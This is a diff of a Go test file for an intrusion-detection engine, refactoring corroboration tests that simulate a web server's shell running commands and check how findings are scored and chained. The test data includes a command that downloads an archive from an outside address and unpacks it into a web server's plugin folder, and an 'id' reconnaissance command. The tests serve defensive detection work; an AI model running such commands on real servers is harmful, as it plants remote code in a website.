@@ -42,30 +42,10 @@ func TestCorroborate(t *testing.T) {
 		}, detect.SeverityMedium},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			s := newSim(t, Options{})
-			s.webServer()
-			sh := shellOf(300, worker1, "/var/www/html/admin")
-			sh.exe = "/usr/bin/dash"
-			f := s.find(s.exec(10, sh, "sh", "-c", "cd /tmp && curl -fsS -o plugin.tgz http://192.0.2.7/p.tgz && tar xzf plugin.tgz -C /var/www/html/plugins"),
-				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
-			f.NeedsCorroboration = true
-			c.then(s, sh)
-			r := s.build()
-			var got *detect.Finding
-			for _, g := range r.Findings {
-				if g.Event == f.Event && g.RuleID == f.RuleID {
-					got = g
-				}
-			}
-			if got == nil {
-				t.Fatal("the install act is not among the result's findings")
-			}
+			f, got := weakAct(t, "cd /tmp && curl -fsS -o plugin.tgz http://192.0.2.7/p.tgz && tar xzf plugin.tgz -C /var/www/html/plugins",
+				detect.StageSuspiciousSpawn, detect.ShowsStaging, c.then)
 			if got.Severity != c.want {
-				dumpChains(t, r)
 				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
-			}
-			if ch := chainOf(r, got); ch == nil {
-				t.Fatal("the result's copy is in no chain: the chain holds another")
 			}
 			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "nothing in its chain shows intent") {
 				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
@@ -99,26 +79,8 @@ func TestCorroborateDiscovery(t *testing.T) {
 		}, detect.SeverityHigh},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			s := newSim(t, Options{})
-			s.webServer()
-			sh := shellOf(300, worker1, "/var/www/html/admin")
-			sh.exe = "/usr/bin/dash"
-			f := s.find(s.exec(10, sh, "sh", "-c", "id 2>&1"),
-				detect.StageCommandExecution, detect.SeverityHigh, "Web Server Exploitation")
-			f.NeedsCorroboration, f.Shows = true, detect.ShowsDiscovery
-			c.then(s, sh)
-			r := s.build()
-			var got *detect.Finding
-			for _, g := range r.Findings {
-				if g.Event == f.Event && g.RuleID == f.RuleID {
-					got = g
-				}
-			}
-			if got == nil {
-				t.Fatal("the discovery act is not among the result's findings")
-			}
+			f, got := weakAct(t, "id 2>&1", detect.StageCommandExecution, detect.ShowsDiscovery, c.then)
 			if got.Severity != c.want {
-				dumpChains(t, r)
 				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
 			}
 			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "only asks who and where it runs") {
@@ -126,4 +88,32 @@ func TestCorroborateDiscovery(t *testing.T) {
 			}
 		})
 	}
+}
+
+// weakAct runs one corroboration case: a web server's shell (pid 300)
+// runs cmd at 10 s as a high finding that needs corroboration (it shows
+// shows alone), then adds what follows, builds, and returns the act's
+// finding in the result, which must be in a chain.
+func weakAct(t *testing.T, cmd string, stage detect.Stage, shows detect.Shows, then func(s *sim, sh who)) (in, got *detect.Finding) {
+	t.Helper()
+	s := newSim(t, Options{})
+	s.webServer()
+	sh := shellOf(300, worker1, "/var/www/html/admin")
+	sh.exe = "/usr/bin/dash"
+	f := s.find(s.exec(10, sh, "sh", "-c", cmd), stage, detect.SeverityHigh, "Web Server Exploitation")
+	f.NeedsCorroboration, f.Shows = true, shows
+	then(s, sh)
+	r := s.build()
+	for _, g := range r.Findings {
+		if g.Event == f.Event && g.RuleID == f.RuleID {
+			got = g
+		}
+	}
+	if got == nil {
+		t.Fatal("the act is not among the result's findings")
+	}
+	if chainOf(r, got) == nil {
+		t.Fatal("the result's copy is in no chain: the chain holds another")
+	}
+	return f, got
 }
